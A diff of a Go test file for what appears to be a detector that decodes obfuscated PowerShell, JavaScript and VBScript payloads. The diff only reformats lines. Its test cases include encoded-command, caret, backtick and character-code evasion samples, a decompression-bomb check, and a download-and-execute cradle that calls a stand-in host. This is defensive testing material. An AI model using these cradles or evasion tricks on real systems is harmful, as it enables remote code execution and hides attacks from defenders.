@@ -59,32 +59,47 @@ func TestPayloadsAreDecoded(t *testing.T) {
 		in   string
 		want []string
 	}{
-		"-enc":                         {"powershell -nop -enc " + b64(wide(cradle)), []string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
-		"-EncodedCommand":              {"powershell -EncodedCommand " + b64(wide(cradle)), []string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
-		"-e in quotes":                 {`powershell -e "` + b64(wide(cradle)) + `"`, []string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
-		"/ec":                          {"powershell /ec " + b64(wide(cradle)), []string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
-		"an en dash":                   {"powershell –enc " + b64(wide(cradle)), []string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
-		"a short command":              {"powershell -enc " + b64(wide("whoami")), []string{"base64 UTF-16LE (-EncodedCommand) | whoami"}},
-		"a command not in ASCII":       {"powershell -enc " + b64(wide("Пуск.exe 日本 -скрыто")), []string{"base64 UTF-16LE (-EncodedCommand) | Пуск.exe 日本 -скрыто"}},
+		"-enc": {"powershell -nop -enc " + b64(wide(cradle)),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
+		"-EncodedCommand": {"powershell -EncodedCommand " + b64(wide(cradle)),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
+		"-e in quotes": {`powershell -e "` + b64(wide(cradle)) + `"`,
+			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
+		"/ec": {"powershell /ec " + b64(wide(cradle)),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
+		"an en dash": {"powershell –enc " + b64(wide(cradle)),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | " + cradle}},
+		"a short command": {"powershell -enc " + b64(wide("whoami")),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | whoami"}},
+		"a command not in ASCII": {"powershell -enc " + b64(wide("Пуск.exe 日本 -скрыто")),
+			[]string{"base64 UTF-16LE (-EncodedCommand) | Пуск.exe 日本 -скрыто"}},
 		"another argument with base64": {"powershell -ExecutionPolicy QUJDREVGR0g=", nil},
 		"nested -enc": {"powershell -enc " + b64(wide("powershell -enc "+b64(wide("whoami /all")))),
-			[]string{"base64 UTF-16LE (-EncodedCommand) | powershell -enc " + b64(wide("whoami /all")), "base64 UTF-16LE (-EncodedCommand) | whoami /all"}},
-		"gzip":                {"[Convert]::FromBase64String('" + b64(gzipped(cradle)) + "')", []string{"base64 gzip | " + cradle}},
-		"deflate":             {"[Convert]::FromBase64String('" + b64(deflated(cradle)) + "')", []string{"base64 deflate | " + cradle}},
-		"a literal":           {"[Convert]::FromBase64String('d2hvYW1p')", []string{"base64 (FromBase64String) | whoami"}},
-		"a torn gzip":         {"x " + b64(gzipped(strings.Repeat(cradle+"#", 40))[:120]), []string{"base64 gzip (broken off)"}},
-		"carets hide it":      {"cmd /c p^o^w^e^r^s^h^e^l^l -enc " + b64(wide("whoami")), []string{"for reading: carets removed | cmd /c powershell -enc " + b64(wide("whoami")), "base64 UTF-16LE (-EncodedCommand) | whoami"}},
-		"words in pieces":     {"& ('I'+'E'+'X') ('a'+\"b\")", []string{"for reading: literals put together | & ('IEX') ('ab')"}},
-		"a format":            {"& ('{1}e{0}'-f'x','i')", []string{"for reading: literals put together | & ('iex')"}},
-		"a replacement":       {"('whXami' -replace 'X','o')", []string{"for reading: literals put together | ('whoami')"}},
-		"a method call":       {"('whXami').Replace('X','o')", []string{"for reading: literals put together | ('whoami')"}},
-		"a quote by its code": {"(('a'+'oHb') -RePlAcE ([chAr]111+[Char]72),[char]39)", []string{"for reading: literals put together | ('a''b')"}},
-		"backticks":           {"I`E`X (N`ew-Object Net.WebClient)", []string{"for reading: backticks removed | IEX (New-Object Net.WebClient)"}},
-		"codes, array":        {"-join [char[]](105,101,120,32,97)", []string{"character codes | iex a"}},
-		"codes, pipe":         {"(0x69,0x65,0x78,0x20)|%{[char]$_}", []string{"character codes | iex "}},
-		"codes, JavaScript":   {"eval(String.fromCharCode(97,108,101,114,116))", []string{"character codes | alert"}},
-		"codes, VBScript":     {"Execute(Chr(87) & Chr(83) & Chr(99) & Chr(114))", []string{"character codes | WScr"}},
-		"codes, one by one":   {"[char]105+[char]101+[char]120+[char]33", []string{"character codes | iex!"}},
+			[]string{"base64 UTF-16LE (-EncodedCommand) | powershell -enc " + b64(wide("whoami /all")),
+				"base64 UTF-16LE (-EncodedCommand) | whoami /all"}},
+		"gzip": {"[Convert]::FromBase64String('" + b64(gzipped(cradle)) + "')", []string{"base64 gzip | " + cradle}},
+		"deflate": {"[Convert]::FromBase64String('" + b64(deflated(cradle)) + "')",
+			[]string{"base64 deflate | " + cradle}},
+		"a literal": {"[Convert]::FromBase64String('d2hvYW1p')", []string{"base64 (FromBase64String) | whoami"}},
+		"a torn gzip": {"x " + b64(gzipped(strings.Repeat(cradle+"#", 40))[:120]),
+			[]string{"base64 gzip (broken off)"}},
+		"carets hide it": {"cmd /c p^o^w^e^r^s^h^e^l^l -enc " + b64(wide("whoami")),
+			[]string{"for reading: carets removed | cmd /c powershell -enc " + b64(wide("whoami")),
+				"base64 UTF-16LE (-EncodedCommand) | whoami"}},
+		"words in pieces": {"& ('I'+'E'+'X') ('a'+\"b\")",
+			[]string{"for reading: literals put together | & ('IEX') ('ab')"}},
+		"a format":      {"& ('{1}e{0}'-f'x','i')", []string{"for reading: literals put together | & ('iex')"}},
+		"a replacement": {"('whXami' -replace 'X','o')", []string{"for reading: literals put together | ('whoami')"}},
+		"a method call": {"('whXami').Replace('X','o')", []string{"for reading: literals put together | ('whoami')"}},
+		"a quote by its code": {"(('a'+'oHb') -RePlAcE ([chAr]111+[Char]72),[char]39)",
+			[]string{"for reading: literals put together | ('a''b')"}},
+		"backticks": {"I`E`X (N`ew-Object Net.WebClient)",
+			[]string{"for reading: backticks removed | IEX (New-Object Net.WebClient)"}},
+		"codes, array":      {"-join [char[]](105,101,120,32,97)", []string{"character codes | iex a"}},
+		"codes, pipe":       {"(0x69,0x65,0x78,0x20)|%{[char]$_}", []string{"character codes | iex "}},
+		"codes, JavaScript": {"eval(String.fromCharCode(97,108,101,114,116))", []string{"character codes | alert"}},
+		"codes, VBScript":   {"Execute(Chr(87) & Chr(83) & Chr(99) & Chr(114))", []string{"character codes | WScr"}},
+		"codes, one by one": {"[char]105+[char]101+[char]120+[char]33", []string{"character codes | iex!"}},
 	} {
 		have := unpacked(c.in)
 		if len(have) != len(c.want) {
@@ -131,7 +146,8 @@ func TestNothingIsGuessed(t *testing.T) {
 
 // What hides a payload behind text that looks encoded does not hide that hunt stopped looking.
 func TestDecoysBeforeAPayloadAreTold(t *testing.T) {
-	payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')"))
+	payload := base64.StdEncoding.EncodeToString(
+		[]byte("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')"))
 	for _, c := range []struct {
 		decoys int
 		told   bool
@@ -151,7 +167,8 @@ func TestDecodingEndsAtItsBounds(t *testing.T) {
 	t.Parallel()
 	bomb := unpacker{seen: map[string]bool{}, budget: maxDecodedFinding}
 	bomb.unpack("FromBase64String('"+b64(gzipped(strings.Repeat("A ", 32<<20)))+"')", 0)
-	if len(bomb.out) != 1 || len(bomb.out[0].Text) > maxDecodedText+200 || !strings.Contains(bomb.out[0].Text, "[cut, ") {
+	if len(bomb.out) != 1 || len(bomb.out[0].Text) > maxDecodedText+200 ||
+		!strings.Contains(bomb.out[0].Text, "[cut, ") {
 		t.Errorf("a bomb gives %d parts", len(bomb.out))
 	}
 	deep := "whoami /groups and something to make it long"
